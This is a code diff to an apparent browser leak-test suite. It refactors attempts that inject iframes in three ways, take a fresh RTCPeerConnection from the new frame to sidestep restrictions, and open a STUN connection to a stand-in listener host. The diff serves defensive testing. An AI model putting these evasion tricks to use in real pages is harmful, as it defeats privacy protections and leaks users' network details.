@@ -5,7 +5,20 @@ function named(name: string, run: (target: LeakTarget) => unknown): LeakAttempt 
   return { name: `name-${name}`, row: 23, contexts: PAGE, arrivesAt: 'recorder', blind: true, run };
 }
 
-function framed(name: string, run: (target: LeakTarget) => unknown): LeakAttempt {
+/** Connects by the constructor of the first frame that has one; frames of other hosts, which other attempts made, let nobody look. */
+const CONNECT = `
+  let Fresh;
+  for (let at = 0; at < window.length && Fresh === undefined; at++) {
+    try { Fresh = window[at].RTCPeerConnection; } catch {}
+  }
+  if (Fresh === undefined) return;
+  const connection = new Fresh({ iceServers: [{ urls: 'stun:LISTENER' }] });
+  connection.createDataChannel('x');
+  await connection.setLocalDescription(await connection.createOffer());`;
+
+/** @param making code that puts a frame into the page */
+function framed(name: string, making: string): LeakAttempt {
+  const run = `(async () => { ${making} ${CONNECT} })()`;
   return { name: `rtc-${name}`, row: 10, contexts: PAGE, arrivesAt: 'listener', run };
 }
 
@@ -74,52 +87,16 @@ export const BY_NAME: readonly LeakAttempt[] = [
     anchor.textContent = 'x';
     document.body.append(anchor);
   }),
-  framed('frame-of-text', async ({ listener }) => {
-    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
-    let Fresh: typeof RTCPeerConnection | undefined;
-    for (let at = 0; at < window.length && Fresh === undefined; at++) {
-      try {
-        Fresh = (window[at] as unknown as typeof globalThis).RTCPeerConnection;
-      } catch {
-        // A frame of another host, which another attempt made.
-      }
-    }
-    if (Fresh === undefined) return;
-    const connection = new Fresh({ iceServers: [{ urls: `stun:${listener}` }] });
-    connection.createDataChannel('x');
-    await connection.setLocalDescription(await connection.createOffer());
-  }),
-  framed('frame-of-a-template', async ({ listener }) => {
-    const template = document.createElement('template');
-    template.innerHTML = '<iframe></iframe>';
-    document.body.append(document.importNode(template.content, true));
-    let Fresh: typeof RTCPeerConnection | undefined;
-    for (let at = 0; at < window.length && Fresh === undefined; at++) {
-      try {
-        Fresh = (window[at] as unknown as typeof globalThis).RTCPeerConnection;
-      } catch {
-        // A frame of another host, which another attempt made.
-      }
-    }
-    if (Fresh === undefined) return;
-    const connection = new Fresh({ iceServers: [{ urls: `stun:${listener}` }] });
-    connection.createDataChannel('x');
-    await connection.setLocalDescription(await connection.createOffer());
-  }),
-  framed('frame-of-parsed-text', async ({ listener }) => {
-    const parsed = new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>', 'text/xml');
-    document.body.append(parsed.documentElement);
-    let Fresh: typeof RTCPeerConnection | undefined;
-    for (let at = 0; at < window.length && Fresh === undefined; at++) {
-      try {
-        Fresh = (window[at] as unknown as typeof globalThis).RTCPeerConnection;
-      } catch {
-        // A frame of another host, which another attempt made.
-      }
-    }
-    if (Fresh === undefined) return;
-    const connection = new Fresh({ iceServers: [{ urls: `stun:${listener}` }] });
-    connection.createDataChannel('x');
-    await connection.setLocalDescription(await connection.createOffer());
-  }),
+  framed('frame-of-text', `document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');`),
+  framed(
+    'frame-of-a-template',
+    `const template = document.createElement('template');
+     template.innerHTML = '<iframe></iframe>';
+     document.body.append(document.importNode(template.content, true));`,
+  ),
+  framed(
+    'frame-of-parsed-text',
+    `const text = '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>';
+     document.body.append(new DOMParser().parseFromString(text, 'text/xml').documentElement);`,
+  ),
 ];
